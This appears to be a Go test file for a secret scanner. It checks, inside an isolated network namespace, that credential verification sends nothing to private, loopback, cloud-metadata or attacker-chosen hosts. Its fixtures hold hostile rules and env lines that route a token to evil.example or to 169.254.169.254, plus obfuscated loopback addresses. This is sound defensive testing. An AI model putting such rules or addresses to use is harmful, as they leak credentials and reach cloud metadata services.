//go:build linux

package main

import (
	"bytes"
	"context"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/straykey/straykey/detect/proof/forge"
)

// inNamespace is set in the environment of the process that runs in a network of its own.
const inNamespace = "STRAYKEY_TEST_IN_NAMESPACE"

// TestNoPacketLeaves runs the command in a network namespace whose loopback has all addresses there are, so that whatever is
// sent, to whom ever, DNS included, is counted. It needs root, namespaces and ip (package iproute2).
func TestNoPacketLeaves(t *testing.T) {
	if os.Getenv(inNamespace) != "" {
		t.Skip("this is the process in the namespace")
	}
	if os.Geteuid() != 0 {
		t.Skip("only root makes a network namespace")
	}
	if _, err := exec.LookPath("ip"); err != nil {
		t.Skip("ip is not installed; internal/servers/install.sh installs it")
	}
	cmd := exec.Command(os.Args[0], "-test.run=^TestInNamespace$", "-test.v")
	cmd.Env = append(os.Environ(), inNamespace+"=1")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET}
	out, err := cmd.CombinedOutput()
	if _, started := err.(*exec.ExitError); err != nil && !started { //nolint:errorlint // as exec returns it
		t.Skipf("no network namespace can be made here: %v", err)
	}
	if bytes.Contains(out, []byte("--- SKIP")) {
		t.Skipf("the namespace cannot be set up here:\n%s", out)
	}
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if !bytes.Contains(out, []byte("--- PASS: TestInNamespace/hostile_repository")) {
		t.Fatalf("nothing was tried:\n%s", out)
	}
}

// TestInNamespace is the part of TestNoPacketLeaves that runs in the namespace.
func TestInNamespace(t *testing.T) {
	if os.Getenv(inNamespace) == "" {
		t.Skip("runs in a network namespace only, see TestNoPacketLeaves")
	}
	for _, args := range []string{"link set lo up", "route add local 0.0.0.0/0 dev lo", "-6 route add local ::/0 dev lo"} {
		if out, err := exec.Command("ip", strings.Fields(args)...).CombinedOutput(); err != nil && !strings.HasPrefix(args, "-6") {
			t.Skipf("ip %s: %v: %s", args, err, out)
		}
	}
	secret := forge.New(t.Name())
	token := forge.GitHub(secret, "ghp"+"_")
	password := forge.Chars(secret, forge.Alnum, 24)
	database := func(host string) string { return "DB=postgres://app:" + password + "@" + host + ":5432/shop\n" }
	github := "TOKEN=" + token + "\n"
	for _, tt := range []struct {
		name, text string
		args       []string
		resolved   string // the address of every name; "": the system is asked
		sent       bool
	}{
		{"hostile repository", hostile(token, password), []string{"--rules", "RULES", "--verify-logins"}, "", false},
		{"name of the issuer, private", github, nil, "10.0.0.1", false},
		{"name of the issuer, this machine", github, nil, "127.0.0.1", false},
		{"name of the issuer, of carriers", github, nil, "100.64.0.1", false},
		{"name of the issuer, link-local", github, nil, "169.254.1.1", false},
		{"name of the issuer, metadata", github, nil, "169.254.169.254", false},
		{"name of the issuer, v4 in v6", github, nil, "::ffff:10.0.0.1", false},
		{"name of the issuer, NAT64", github, nil, "64:ff9b::a00:1", false},
		{"name of the issuer, unique local", github, nil, "fd00::1", false},
		{"name of the issuer, public", github, nil, "9.9.9.9", true},
		{"endpoint, private", github, []string{"--verify-endpoint", "github=https://ghe.acme.io"}, "10.0.0.1", true},
		{"endpoint, metadata", github, []string{"--verify-endpoint", "github=https://ghe.acme.io"}, "169.254.169.254", false},
		{"endpoint, metadata of IPv6", github, []string{"--verify-endpoint", "github=https://ghe.acme.io"}, "fd00:ec2::254", false},
		{"database, not allowed", database("db.acme.io"), []string{"--verify-logins"}, "9.9.9.9", false},
		{"database, no login allowed", database("db.acme.io"), []string{"--verify-hosts", "db.acme.io"}, "9.9.9.9", false},
		{"database, allowed", database("db.acme.io"), []string{"--verify-logins", "--verify-hosts", "db.acme.io"}, "10.0.0.1", true},
		{"database, below an allowed name", database("db.acme.io"), []string{"--verify-logins", "--verify-hosts", "*.acme.io"}, "10.0.0.1", false},
		{"database, metadata", database("db.acme.io"), []string{"--verify-logins", "--verify-hosts", "db.acme.io"}, "169.254.169.254", false},
		{"database, a number", database("2130706433"), []string{"--verify-logins", "--verify-hosts", "10.0.0.0/8"}, "", false},
		{"database, octal", database("0177.0.0.1"), []string{"--verify-logins", "--verify-hosts", "*.0.1"}, "", false},
		{"private proxy, private target", github, []string{"--proxy", "http://10.9.9.9:3128"}, "10.0.0.1", false},
		{"private proxy, public target", github, []string{"--proxy", "http://10.9.9.9:3128"}, "9.9.9.9", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			rules := filepath.Join(dir, "rules.toml")
			for name, text := range map[string]string{filepath.Join(dir, "app.env"): tt.text, rules: hostileRules} {
				if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			args := []string{"scan", "--files", "--verify", "--verify-timeout", "2s", "--verify-deadline", "3s", "--confidence", "low", dir}
			for _, a := range tt.args {
				args = append(args, strings.ReplaceAll(a, "RULES", rules))
			}
			var out bytes.Buffer
			env := &environment{stdin: strings.NewReader(""), stdout: &out, stderr: &out, getenv: func(string) string { return "" }}
			if tt.resolved != "" {
				env.resolve = func(context.Context, string) ([]netip.Addr, error) {
					return []netip.Addr{netip.MustParseAddr(tt.resolved)}, nil
				}
			}
			before := packets(t)
			run(args, env)
			if sent := packets(t) - before; (sent > 0) != tt.sent {
				t.Errorf("%d packets were sent\n%s", sent, &out)
			}
			if n := strings.Count(out.String(), "verdict "); n < strings.Count(tt.text, "\n")/2 {
				t.Errorf("%d verdicts\n%s", n, &out)
			}
		})
	}
}

// hostileRules would have everything sent to where the repository likes.
const hostileRules = `
[extend]
useDefault = true
[[rules]]
id = "github-pat-classic"
description = "Taken over."
[rules.verify]
url = "https://evil.example/{secret}"
secretInURL = true
[[rules]]
id = "evil-token"
description = "Of the repository."
token = 'evil_[0-9a-z]{20}'
[rules.verify]
url = "https://169.254.169.254/"
headers = { Authorization = "Bearer {secret}" }
`

// hostile is a text full of addresses that ask to be asked.
func hostile(token, password string) string {
	address := func(scheme, host string) string { return scheme + "://app:" + password + "@" + host + "/x\n" }
	return "TOKEN=" + token + "\nEVIL=evil_" + strings.ToLower(password[:20]) + "\n" +
		"GITHUB_API_URL=https://evil.example/api\nHTTPS_PROXY=http://evil.example:3128\n" +
		address("postgres", "169.254.169.254:5432") + address("mysql", "127.0.0.1:3306") + address("redis", "[::1]:6379") +
		address("mongodb", "10.0.0.1") + address("mongodb+srv", "cluster.evil.example") + address("amqp", "192.168.0.1") +
		address("smtp", "mail.evil.example:587") + address("ldap", "[fd00:ec2::254]") + address("https", "evil.example") +
		"server: https://k8s.evil.example:6443\ntoken: sha256~" + password + password[:19] + "\n"
}

// packets returns how many packets the loopback of this namespace has sent.
func packets(t *testing.T) int {
	t.Helper()
	data, err := os.ReadFile("/proc/net/dev")
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(data)) {
		name, rest, ok := strings.Cut(line, ":")
		if !ok || strings.TrimSpace(name) != "lo" {
			continue
		}
		fields := strings.Fields(rest) // eight of what came, then bytes and packets of what was sent
		n, err := strconv.Atoi(fields[9])
		if err != nil {
			t.Fatal(fmt.Errorf("/proc/net/dev: %w", err))
		}
		return n
	}
	t.Fatal("/proc/net/dev has no loopback")
	return 0
}
